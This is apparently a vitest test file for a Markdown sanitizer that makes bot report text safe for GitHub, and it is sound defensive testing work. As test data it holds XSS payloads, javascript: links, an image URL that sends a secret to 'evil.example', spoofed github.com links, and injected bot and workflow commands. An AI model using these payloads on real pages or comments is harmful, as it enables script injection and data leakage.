import fc from 'fast-check';
import { expect, test } from 'vitest';
import { createClean } from '../../../src/clean/clean.ts';

const { markdown } = createClean({ secrets: [] });

test('ordinary Markdown reads as it was written', () => {
  const text = [
    '### Result',
    '',
    'Two **paths** reach `exec(a || b)`; see [the advisory](https://nvd.nist.gov/x) (nvd.nist.gov).',
    '',
    '1. first, with `npm i @types/node`',
    '   - nested &lt;T&gt;',
    '- [ ] open',
    '- [x] done',
    '',
    '> quoted',
    '',
    '| a | b |',
    '|---|:-:|',
    '| 1 | `x` |',
  ].join('\n');
  expect(markdown(text)).toBe(text);
});

test('what could act becomes text', () => {
  const attacks = [
    '<img src=x onerror=alert(1)> <details open> <!-- ultracode:v1 {"kind":"sticky"} -->',
    '![pixel](https://evil.example/p.png?d=secret)',
    '[click](javascript:alert(1)) [x](data:text/html,y) [ref][1]',
    '[1]: https://evil.example "title"',
    '[//]: # (ultracode:v1)',
    '@octocat @org/team \\@octocat _@octocat_ &#64;octocat &commat;octocat',
    'fixes #12, closes octo/shop#3, resolves GH-4, fixes https://github.com/octo/shop/issues/5',
    '[github.com](https://github.com@evil.example/) https://github.com@evil.example/',
    '[https://github.com](https://evil.example)',
    '\\![pixel](https://evil.example/p.png)',
  ];
  expect(attacks.map(markdown).join('\n\n')).toMatchInlineSnapshot(`
    "&lt;img src=x onerror=alert(1)> &lt;details open> &lt;!-- ultracode:v1 {"kind":"sticky"} -->

    image: [pixel](https://evil.example/p.png?d=secret) (evil.example)

    \\[click\\](javascript:alert(1)) \\[x\\](data:text/html,y) \\[ref\\]\\[1\\]

    \\[1\\]: <https://evil.example/> "title"

    \\[//\\]: # (ultracode:v1)

    @​octocat @​org/team @​octocat _@​octocat_ &amp;#​64;octocat &amp;commat;octocat

    fixes #​12, closes octo/shop#​3, resolves GH-​4, fixes <https://redirect.github.com/octo/shop/issues/5>

    github.com (https:\\//github.com@evil.example/) https:\\//github.com@evil.example/

    https:\\//github.com <https://evil.example/>

    \\![pixel](https://evil.example/p.png) (evil.example)"
  `);
});

test('no line starts with a command of ours or of another bot, in code neither', () => {
  expect(
    markdown('/ultracode run audit\n  /lgtm\n```\n/merge\n::error::x\n```\n::warning::y'),
  ).toMatchInlineSnapshot(`
    "\\/ultracode run audit
      \\/lgtm

     \`\`\`
     /merge
     : :error::x
     \`\`\`

    : :warning::y"
  `);
});

test('a heading is never as large as the report’s own', () => {
  expect(markdown('# One\ntext\n===\n## Two\n- > # Three\n#### Four\n> text\n> ---')).toMatchInlineSnapshot(`
    "### One
    text
    \\===
    ### Two
    - > ### Three
    #### Four
    > text
    > \\---"
  `);
});

test('a fence is closed, and longer than any inside', () => {
  expect(markdown('- item\n  ~~~js\n  a ``` b\n  <!-- m -->\n\n  end')).toMatchInlineSnapshot(`
    "- item

     \`\`\`\`js
     a \`\`\` b
     <!​-- m -->

     end
     \`\`\`\`"
  `);
});

test('a fence that GitHub would draw, compute or offer to commit is only shown', () => {
  expect(
    ['mermaid', 'suggestion', 'math', 'js <b>', 'c++'].map(
      (word) => markdown(`\`\`\`${word}\nx\n\`\`\``).split('\n')[0],
    ),
  ).toEqual([' ```', ' ```', ' ```', ' ```js', ' ```c++']);
});

test('a code span that GitHub would see elsewhere hides no HTML', () => {
  // Over the end of a line, and over the end of a table cell.
  expect(markdown('a ` b\nc ` <img> ` d')).toBe('a \\` b\nc ` <img> ` d');
  expect(markdown('| a | b |\n|---|---|\n| ` | <img> ` |\n| `a\\\\|<img>` | c |')).toBe(
    '| a | b |\n|---|---|\n| ` \\| <img> ` |\n| `a\\\\\\|<img>` | c |',
  );
  expect(markdown('https://e.com)`` <img> ``')).toBe('<https://e.com/>)`` <img> ``');
});

test('cleaning twice is cleaning once, and what acts is gone, whatever the text', () => {
  const pieces = fc.constantFrom(
    ...[
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '|',
      '|---|---|\n',
      '<img>',
      '<!-- m -->',
      '![a](https://e.com/i)',
      '[a](https://e.com)',
    ],
    ...[
      '[a](javascript:x)',
      '[a]: https://e.com\n',
      '\\',
      '!',
      '[',
      '](',
      'https://e.com/@u',
      '> ',
      '- ',
      '1. ',
      '    ',
      '# ',
      '===\n',
      '---\n',
    ],
    ...[
      '@user',
      'x',
      ' ',
      '*',
      '_',
      '&#64;u',
      '&lt;',
      '<',
      '>',
      '\\`',
      '\\|',
      '#1',
      '/lgtm',
      '::',
      '(',
      ')',
      '"',
    ],
  );
  fc.assert(
    fc.property(
      fc.array(pieces, { maxLength: 25 }).map((parts) => parts.join('')),
      (text) => {
        const out = markdown(text);
        expect(markdown(out)).toBe(out);
        expect(out).not.toContain('<!--');
        expect(out).not.toMatch(/^\s*::/m);
        expect(out).not.toMatch(/^\/\w/m);
        expect(withoutCode(out)).not.toMatch(
          /<(?!https:\/\/e\.com)|(?<!\\)!\[|(?<![A-Za-z0-9])@[A-Za-z0-9](?![^<\s]*>)/,
        );
      },
    ),
    { numRuns: 1000 },
  );
});

/** Without fenced blocks, code spans and links: what is left is read as text. */
function withoutCode(text: string): string {
  return text
    .replace(/^ (`{3,})[^\n]*\n[\s\S]*?\n \1$/gm, '')
    .replace(/\\[^\w\s]|(`+)(?!`).*?[^`]\1(?!`)/g, ' ')
    .replace(/\]\([^)]*\)|<https:[^>]*>/g, ']');
}
